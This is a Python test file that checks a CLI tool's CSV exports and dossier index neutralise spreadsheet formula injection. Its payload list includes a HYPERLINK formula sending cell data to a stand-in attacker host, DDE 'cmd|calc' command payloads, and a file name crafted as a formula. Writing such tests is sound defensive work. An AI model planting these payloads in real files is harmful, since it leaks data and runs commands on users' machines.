"""No CSV cell sop writes opens as a formula in a spreadsheet: exports and the dossier's index."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sop_cli.workspace import Workspace
from tests.hardening.conftest import RunSop

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would read as a formula: starting with = + - @ tab CR, and not a plain number."""
    found = []
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def _record(ws: Workspace, run_sop: RunSop, tmp_path: Path) -> None:
    for number, label in zip((1, 2, 4, 5), FORMULAS, strict=True):
        assert run_sop("start", str(number), "--label", label).returncode == 0
    evidence = tmp_path / "=cmd|calc!A0.pdf"
    evidence.write_bytes(b"%PDF")
    assert run_sop("note", "1", "--evidence", str(evidence)).returncode == 0
    assert run_sop("note", "2", "=1+1", "--step", "2").returncode == 0


def test_the_csv_export_holds_no_formula(office: Workspace, run_sop: RunSop, tmp_path: Path) -> None:
    """Labels that are formulas are written with a leading ' in the status and events CSV files."""
    _record(office, run_sop, tmp_path)
    assert run_sop("export", "--format", "csv").returncode == 0
    status = _cells(office.root / "exports" / "2570" / "sop-2570-status.csv")
    events = _cells(office.root / "exports" / "2570" / "sop-2570-events.csv")
    assert _formula_cells(status) == [] and _formula_cells(events) == []
    labels = {row[3] for row in status[1:]}
    assert {"'" + label for label in FORMULAS} <= labels  # kept whole, only neutralised


def test_the_dossier_index_holds_no_formula(office: Workspace, run_sop: RunSop, tmp_path: Path) -> None:
    """index.csv and events.csv of the dossier: run labels and file names that are formulas are neutralised."""
    _record(office, run_sop, tmp_path)
    out = tmp_path / "dossier"
    result = run_sop("dossier", "--out", str(out))
    assert result.returncode == 0, result.stderr
    index = _cells(out / "index.csv")
    assert _formula_cells(index) == [] and _formula_cells(_cells(out / "events.csv")) == []
    names = {row[10] for row in index[1:]}
    assert "'=cmd|calc!A0.pdf" in names
